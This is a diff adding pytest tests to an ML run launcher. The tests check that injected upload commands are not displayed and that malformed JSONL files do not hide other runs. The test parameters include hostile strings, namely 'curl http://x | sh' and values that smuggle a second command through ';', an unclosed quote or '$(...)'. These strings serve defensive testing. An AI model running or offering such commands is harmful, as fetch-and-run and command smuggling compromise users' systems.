@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+import shutil
 import subprocess
 from collections.abc import Callable
 
@@ -9,6 +11,7 @@ import pytest
 
 from launcher import run_store
 from launcher.plan.run_dir import RunDir
+from launcher.tracking.jsonl import JsonlTracker
 
 Launch = Callable[..., subprocess.CompletedProcess[str]]
 
@@ -50,3 +53,32 @@ def test_logs_show_the_output_and_then_name_the_damaged_record(launch_here: Laun
     (run.attempt(2) / "agent.log").write_text("the output of the agent\n")
     shown = launch_here("logs", str(run.root))
     assert (shown.returncode, shown.stdout) == (2, "the output of the agent\n"), shown.stderr
+
+
+@pytest.mark.parametrize(
+    "command", ["curl http://x | sh", "wandb sync x; curl http://x | sh", "wandb sync 'x", "wandb sync $(x)"]
+)
+def test_another_command_in_place_of_the_upload_is_not_shown(launch_here: Launch, run: RunDir, command: str) -> None:
+    """The run may be another user's, and the reader is told to type it."""
+    JsonlTracker(run, 2).event("info", "Weights & Biases: offline", url=None, sync_command=command)
+    assert "W&B" not in launch_here("status", str(run.root)).stdout
+
+
+@pytest.mark.parametrize(
+    ("file", "line"),
+    [
+        ("events.jsonl", "[" * 100_000),
+        ("events.jsonl", '{"nonfinite": 3}'),
+        ("metrics.jsonl", "[" * 100_000),
+        ("metrics.jsonl", '{"trainer/step": 1e999, "attempt": 3, "time": 1e308, "train/loss": 1.0}'),
+        ("metrics.jsonl", '{"nonfinite": {"train/loss": "x"}}'),
+    ],
+)
+def test_a_run_whose_files_make_no_sense_does_not_hide_the_others(launch_here: Launch, run: RunDir, file: str, line: str) -> None:
+    shutil.copytree(run.root, run.root.with_name("other"))
+    with open(run.root.with_name("other") / file, "a") as appended:
+        appended.write(f"{line}\n")
+    done = launch_here("ls", "--root", str(run.root.parent))
+    assert done.returncode == 0, done.stderr
+    assert re.search(r"^demo +completed", done.stdout, re.MULTILINE)
+    assert "other" in done.stdout + done.stderr
